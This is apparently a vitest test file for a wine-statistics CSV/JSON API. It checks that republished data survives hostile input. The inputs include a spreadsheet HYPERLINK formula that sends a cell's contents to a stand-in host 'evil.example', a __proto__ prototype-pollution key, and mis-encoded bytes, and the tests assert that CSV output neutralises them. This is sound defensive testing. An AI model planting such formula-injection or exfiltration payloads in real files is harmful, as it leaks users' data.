import { readFile, writeFile } from 'node:fs/promises';
import { request as httpRequest } from 'node:http';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type StaticUpstream, startStaticUpstream } from '../src/testing/static-upstream.js';
import { SNAPSHOT_DIR } from './snapshot.js';
import { eventually, removeDir, replaceFile, sleep, startTestApi, type TestApi } from './support.js';

const PRODUCAO = await readFile(join(SNAPSHOT_DIR, 'Producao.csv'), 'utf8');
const HUGE = `1${'0'.repeat(400)}`;
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const years = (value: number) => Array.from({ length: 54 }, () => value).join(';');

/**
 * Producao.csv with text that once broke a format: formulas, a number too large for a double, `__proto__`; and the
 * marker `-` (the bundled files publish `+` only).
 */
const HOSTILE_PRODUCAO = Buffer.from(
  PRODUCAO.replace('3;vm_Branco;Branco;748400;', `3;vm_Branco;"${HYPERLINK.replaceAll('"', '""')}";=2+5;`)
    .replace('4;vm_Rosado;Rosado;42236152;31970782;', `4;vm_Rosado;Rosado;${HUGE};-;`)
    .concat(
      [
        `52;__proto__;__PROTO__;${years(10)}`,
        `53;pr_Filho;Filho;${years(10)}`,
        `54;constructor;CONSTRUCTOR;${years(5)}`,
        `55;co_Filho;Filho;${years(5)}`,
        '',
      ].join('\n'),
    ),
);

interface TidyRow {
  category: string | null;
  item: string | null;
  year: number;
  quantity: number | null;
  quantity_flag: string | null;
}

const ndjson = async (api: TestApi, query: string): Promise<TidyRow[]> =>
  (await (await api.get(`/v1/datasets/producao/rows?format=ndjson&${query}`)).text())
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as TidyRow);

const csvLines = async (api: TestApi, dataset: string, query: string) =>
  (await (await api.get(`/v1/datasets/${dataset}/rows?format=csv&${query}`)).text()).split('\r\n');

describe('published text that once broke an output format', () => {
  let upstream: StaticUpstream;
  const apis: TestApi[] = [];
  const start = async (env: Record<string, string> = {}) => {
    const api = await startTestApi(upstream.url, env);
    apis.push(api);
    return api;
  };

  beforeEach(async () => {
    upstream = await startStaticUpstream(SNAPSHOT_DIR);
  });
  afterEach(async () => {
    for (const api of apis.splice(0)) {
      await api.close();
      await removeDir(api.cacheDir);
    }
    await upstream.close();
  });

  it('CSV neutralises formulas in text columns only; JSON, NDJSON and legacy keep the text as published', async () => {
    replaceFile(upstream, 'Producao.csv', HOSTILE_PRODUCAO);
    const api = await start();
    const lines = await csvLines(api, 'producao', 'year=1970&category=VINHO%20DE%20MESA');
    expect(lines).toContain(
      `producao,VINHO DE MESA,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",,1970,,'=2+5,,,L,false`,
    );
    expect(lines).toContain('producao,VINHO DE MESA,Tinto,,1970,174224052,,,,L,false'); // numbers stay numbers
    const [row] = await ndjson(api, `year=1970&item=${encodeURIComponent(HYPERLINK)}`);
    expect(row).toMatchObject({ item: HYPERLINK, quantity: null, quantity_flag: '=2+5' });
    const legacy = (await (await api.get('/producaoCSV')).json()) as Record<
      string,
      Record<string, unknown>[]
    >;
    expect(legacy['VINHO DE MESA']?.find((record) => record.id === 3)).toMatchObject({
      produto: HYPERLINK,
      '1970': '=2+5',
    });
  });

  it("the published markers + and - survive in CSV as the text cells '+ and '-", async () => {
    replaceFile(upstream, 'Producao.csv', HOSTILE_PRODUCAO);
    const api = await start();
    const americanas = await csvLines(api, 'processamento_americanas', 'item=BRS%20N%C3%BAbia');
    expect(americanas.filter((line) => line.endsWith(",'+,,,kg,false"))).toHaveLength(1);
    const americanasRows = await (
      await api.get('/v1/datasets/processamento_americanas/rows?format=ndjson&item=BRS%20N%C3%BAbia')
    ).text();
    expect(americanasRows.match(/"quantity_flag":"\+"/g)).toHaveLength(1);
    const rosado = 'year=1971&item=Rosado&category=VINHO%20DE%20MESA';
    expect((await csvLines(api, 'producao', rosado))[1]).toBe(
      "producao,VINHO DE MESA,Rosado,,1971,,'-,,,L,false",
    );
    expect((await ndjson(api, rosado))[0]).toMatchObject({ quantity: null, quantity_flag: '-' });
  });

  it('a number too large for a double keeps its text in the flag, the same in every format', async () => {
    replaceFile(upstream, 'Producao.csv', HOSTILE_PRODUCAO);
    const api = await start();
    const [row] = await ndjson(api, 'year=1970&item=Rosado&category=VINHO%20DE%20MESA');
    expect(row).toMatchObject({ quantity: null, quantity_flag: HUGE });
    const json = (await (
      await api.get('/v1/datasets/producao/rows?year=1970&item=Rosado&category=VINHO%20DE%20MESA')
    ).json()) as { rows: TidyRow[] };
    expect(json.rows[0]).toMatchObject({ quantity: null, quantity_flag: HUGE });
    const lines = await csvLines(api, 'producao', 'year=1970&item=Rosado&category=VINHO%20DE%20MESA');
    expect(lines[1]).toBe(`producao,VINHO DE MESA,Rosado,,1970,,${HUGE},,,L,false`);
    expect(lines.join('\n')).not.toMatch(/Infinity/);
    const legacy = (await (await api.get('/producaoCSV')).json()) as Record<
      string,
      Record<string, unknown>[]
    >;
    expect(legacy['VINHO DE MESA']?.find((record) => record.id === 4)?.['1970']).toBe(HUGE);
  });

  it('categories named __proto__ and constructor are categories like any other', async () => {
    replaceFile(upstream, 'Producao.csv', HOSTILE_PRODUCAO);
    const api = await start();
    const legacy = JSON.parse(await (await api.get('/producaoCSV')).text()) as object;
    const entry = (await (await api.get('/v1/datasets/producao')).json()) as {
      cached: { published_rows: number };
      last_error: unknown;
    };
    expect(entry).toMatchObject({ cached: { published_rows: 55 }, last_error: null });
    const group = (key: string) => Object.getOwnPropertyDescriptor(legacy, key)?.value as unknown[];
    expect(group('__proto__')).toHaveLength(2);
    expect(group('constructor')).toHaveLength(2);
    expect(group('VINHO DE MESA')).toHaveLength(4);
    const rows = await ndjson(api, 'year=2000&category=__PROTO__');
    expect(rows.map((r) => [r.item, r.quantity])).toEqual([
      [null, 10],
      ['Filho', 10],
    ]);
  });

  it('a UTF-8 file with a few bytes that are not UTF-8 is refused, not misread: the good copy stays', async () => {
    const api = await start({ CACHE_TTL_SECONDS: '1' });
    expect(await ndjson(api, 'year=2023&item=suco%20de%20uva%20adocado')).toHaveLength(1);
    // Three Windows-1252 bytes in one name of an otherwise UTF-8 file: "Suco de uva adoçado" written `adoçção`.
    const [before, after] = PRODUCAO.split(';Suco de uva adoçado;');
    const damaged = Buffer.concat([
      Buffer.from(`${before};Suco de uva ado`),
      Buffer.from([0xe7, 0xe7, 0xe3]),
      Buffer.from(`o;${after}`),
    ]);
    replaceFile(upstream, 'Producao.csv', damaged);
    await sleep(1100);
    await api.get('/producaoCSV');
    await eventually(async () => {
      const entry = (await (await api.get('/v1/datasets/producao')).json()) as { last_error: unknown };
      return entry.last_error !== null;
    });
    const entry = (await (await api.get('/v1/datasets/producao')).json()) as {
      cached: { encoding: string };
      last_error: { code: string; message: string };
    };
    expect(entry.last_error.code).toBe('MALFORMED_UPSTREAM_FILE');
    expect(entry.last_error.message).toMatch(/mixed encodings: \d+ UTF-8 sequences but 3 byte\(s\)/);
    expect(entry.cached.encoding).toBe('utf-8');
    expect(await ndjson(api, 'year=2023&item=suco%20de%20uva%20adocado')).toHaveLength(1);
  });

  it('a copy stored with a fetch time in the future is fresh for one TTL at most after a restart', async () => {
    const first = await start();
    await (await first.get('/producaoCSV')).arrayBuffer();
    await first.close();
    apis.splice(apis.indexOf(first), 1);
    const metaPath = join(first.cacheDir, 'Producao.csv.meta.json');
    const meta = JSON.parse(await readFile(metaPath, 'utf8')) as Record<string, unknown>;
    await writeFile(metaPath, JSON.stringify({ ...meta, fetchedAt: '2099-01-01T00:00:00.000Z' }));
    upstream.setFault((_file, _req, res) => {
      res.writeHead(500).end();
      return true;
    });
    const second = await start({ CACHE_DIR: first.cacheDir, CACHE_TTL_SECONDS: '600' });
    const response = await second.get('/producaoCSV');
    expect(response.status).toBe(200);
    const maxAge = Number(/max-age=(\d+)/.exec(response.headers.get('cache-control') ?? '')?.[1]);
    expect(maxAge).toBeGreaterThan(0);
    expect(maxAge).toBeLessThanOrEqual(600);
    expect(Date.parse(response.headers.get('x-data-fetched-at') ?? '')).toBeLessThanOrEqual(Date.now());
    expect(Number(response.headers.get('x-data-age'))).toBeGreaterThanOrEqual(0);
  });

  it('OPTIONS answers 204 No Content with Allow', async () => {
    const api = await start();
    for (const path of ['/v1/datasets', '/v1/datasets/producao/rows', '/producaoCSV', '/healthz']) {
      const response = await new Promise<{ status: number; headers: Record<string, unknown>; body: string }>(
        (resolve, reject) => {
          const req = httpRequest(`${api.url}${path}`, { method: 'OPTIONS' }, (res) => {
            let body = '';
            res.on('data', (chunk: Buffer) => {
              body += chunk.toString();
            });
            res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
          });
          req.on('error', reject);
          req.end();
        },
      );
      expect(response, path).toMatchObject({ status: 204, body: '' });
      expect(response.headers.allow, path).toBe('HEAD, GET');
      expect(response.headers['content-type'], path).toBeUndefined();
    }
  });
});
